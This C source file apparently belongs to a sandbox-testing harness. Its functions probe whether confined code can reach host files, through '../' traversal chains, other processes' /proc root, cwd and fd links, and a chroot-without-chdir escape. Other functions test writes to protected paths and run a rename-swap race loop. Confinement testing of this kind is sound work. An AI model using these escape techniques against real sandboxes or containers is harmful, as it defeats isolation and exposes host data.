// Ways to the host's files, and to files that must not be written.
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../../"

// Reads `path` from the directory `from`; tells it when that worked.
static int taken(const char *way, int from, const char *path) {
    char text[8192]; // a record of the kernel's log is read whole or not at all
    int file = openat(from, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (file < 0) return 0;
    ssize_t length = read(file, text, sizeof text - 1);
    close(file);
    if (length <= 0) return 0;
    text[length] = 0;
    text[strcspn(text, "\n")] = 0;
    put(way, text);
    return 1;
}

static void by_directory(const char *way, int from, const char *path) {
    char longer[4096];
    // Up from there, and from there as if it were the root.
    snprintf(longer, sizeof longer, UP "%s", path + 1);
    if (!taken(way, from, longer)) taken(way, from, path + 1);
}

struct look {
    const char *path;
    long process;
};

static void by_descriptor(long number, void *context) {
    struct look *look = context;
    char link[64];
    snprintf(link, sizeof link, "/proc/%ld/fd/%ld", look->process, number);
    int from = open(link, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (from < 0) return;
    by_directory(link, from, look->path);
    close(from);
}

static void by_process(long process, void *context) {
    struct look *look = context;
    char link[64];
    static const char *const names[] = {"root", "cwd"};
    for (int i = 0; i < 2; i++) {
        snprintf(link, sizeof link, "/proc/%ld/%s", process, names[i]);
        int from = open(link, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (from < 0) continue;
        by_directory(link, from, look->path);
        close(from);
    }
    look->process = process;
    snprintf(link, sizeof link, "/proc/%ld/fd", process);
    each_number(link, by_descriptor, look);
}

// chroot(2) without chdir(2): the working directory is outside then, and nothing stops `..` from there.
static void by_chroot(const char *path) {
    int from = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir("/tmp/below", 0755);
    if (chdir("/") == 0 && chroot("/tmp/below") == 0) by_directory("chroot", AT_FDCWD, path);
    if (from >= 0) close(from);
}

void attack_reach(const char *path) {
    struct look look = {path, 0};
    taken("path", AT_FDCWD, path);
    by_directory("working directory", AT_FDCWD, path);
    each_number("/proc", by_process, &look);
    by_chroot(path);
    put("done", "reach");
}

void attack_read(const char *path) {
    if (!taken("content", AT_FDCWD, path)) put("content", error_name());
}

void attack_write(int count, char **paths) {
    for (int i = 0; i < count; i++) {
        int file = open(paths[i], O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        // To write to the null device is no attack: it is what masks are made of.
        struct stat status;
        int null = file >= 0 && fstat(file, &status) == 0 && S_ISCHR(status.st_mode) && status.st_rdev == 0x103;
        if (null)
            put(paths[i], "null");
        else
            put_result(paths[i], file);
        if (file >= 0) close(file);
    }
}

void attack_swap(const char *one, const char *other) {
    ready();
    for (;;)
        if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0 && errno != ENOENT) {
            put_result("swap", -1);
            return;
        }
}
